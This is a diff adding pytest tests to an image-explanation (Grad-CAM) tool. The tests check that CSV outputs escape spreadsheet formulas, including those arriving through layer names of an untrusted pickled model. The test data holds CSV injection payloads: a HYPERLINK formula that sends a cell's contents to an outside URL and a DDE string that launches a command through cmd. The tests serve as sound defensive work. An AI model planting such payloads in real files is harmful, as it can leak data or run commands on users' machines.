@@ -4,6 +4,9 @@ table, spreadsheet formulas in the CSV files, and nesting that broke serialising
 
 from __future__ import annotations
 
+import csv
+import io
+
 import numpy as np
 import pytest
 
@@ -72,3 +75,75 @@ def test_a_part_of_an_image_larger_than_any_input_is_refused():
     data = ImageAtlas("cat", (40_000, 32), (4, 4), np.ones(3), np.zeros(3, np.int32)).to_bytes()
     with pytest.raises(ExplainError, match=r"^p.zip: not an atlas part .*size 40000 x 32"):
         ImageAtlas.from_bytes(data, "p.zip")
+
+
+@pytest.mark.parametrize("cell, written", [
+    ('=HYPERLINK("https://example.org/?"&A2,"open")', '\'=HYPERLINK("https://example.org/?"&A2,"open")'),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("+1+1", "'+1+1"), ("-1+cmd|x", "'-1+cmd|x"), ("\t=1", "'\t=1"), ("\r=1", "\\r=1"),
+    ("a\rb\nc", "a\\rb\nc"),
+    ("-0.5", "-0.5"), ("+3", "+3"), ("-inf", "-inf"), ("cat", "cat"), ("a=b", "a=b"),
+    (-0.5, -0.5), (None, None), (True, True),
+])
+def test_a_csv_cell_never_starts_a_formula(cell, written):
+    from explain.names import inert_cell
+    from explain.outputs import RunFolder
+    assert inert_cell(cell) == written
+    rows = list(csv.reader(io.StringIO(RunFolder.csv_bytes([{cell: cell}]).decode(), newline="")))
+    assert rows == [[str(written) if written is not None else ""]] * 2
+
+
+def test_a_model_files_layer_names_reach_the_sanity_table_as_text(tmp_path, capsys):
+    """A whole pickled network (loaded without trust) whose modules are named as formulas:
+    sanity.csv's layer column held them as they were."""
+    import collections
+
+    import torch
+    from torch import nn
+
+    from conftest import IMAGES, write_config
+    from helpers import cli
+    net = nn.Sequential().eval()
+    names = ['=HYPERLINK("https://example/"&A1,"click")', "relu", "pool", "flat",
+             "@SUM(1+1)*cmd|' /C calc'!A0"]
+    net._modules = collections.OrderedDict(zip(names, [  # what a pickle restores
+        nn.Conv2d(3, 4, 3, padding=1), nn.ReLU(), nn.AdaptiveAvgPool2d(1), nn.Flatten(),
+        nn.Linear(4, 2)]))
+    torch.save(net, tmp_path / "shared.pth")
+    path = write_config(tmp_path, "shared", model={"file": "shared.pth"},
+                        images=[str(IMAGES / "cat.jpg")], preprocess={"size": [32, 32]},
+                        target_layers=["auto"], methods=["gradcam"], metrics=[],
+                        sanity={"enabled": True, "images": 1})
+    code, err, _ = cli(capsys, path, "--quiet")
+    assert code == 0, err
+    table = list(csv.DictReader((tmp_path / "results/shared/sanity/sanity.csv").open()))
+    layers = {row["layer"] for row in table}
+    assert {"'" + names[0], "'" + names[4]} <= layers, layers
+    cells = [cell for row in table for cell in row.values()]
+    assert not any(cell[:1] in ("=", "+", "-", "@") and not _number(cell) for cell in cells)
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def test_resume_keeps_a_maps_record_only_under_the_file_names_its_run_gives():
+    """An item file's Guided Grad-CAM file was free text: a formula reached summary.csv."""
+    from explain.recordfiles import kept_problem
+    from explain.results import ImageEntry, MapRecord
+
+    def entry(guided):
+        rec = MapRecord(class_name="cat", method="gradcam", peak_x=0, peak_y=0, peak_value=1,
+                        mass_left=0.5, mass_right=0.5, mass_top=0.5, mass_bottom=0.5,
+                        file="cams/gradcam/a__cat.png", guided_file=guided)
+        return ImageEntry(id="a", path="a.jpg", input_size=[8, 8], probabilities={"cat": 1.0},
+                          predicted="cat", cams=[rec])
+    for fine in (None, "guided_cam/gradcam/a__cat.png", "guided_cam/gradcam/a__cat.jpg"):
+        assert kept_problem(entry(fine), ["gradcam"], {"cat"}, ".png") is None
+    for made_up in ('=HYPERLINK("x")', "guided_cam/gradcam/b__cat.png", "cams/gradcam/a__cat.png"):
+        assert kept_problem(entry(made_up), ["gradcam"], {"cat"}, ".png") == (
+            f"Guided Grad-CAM file {made_up!r}, expected 'guided_cam/gradcam/a__cat.png'")
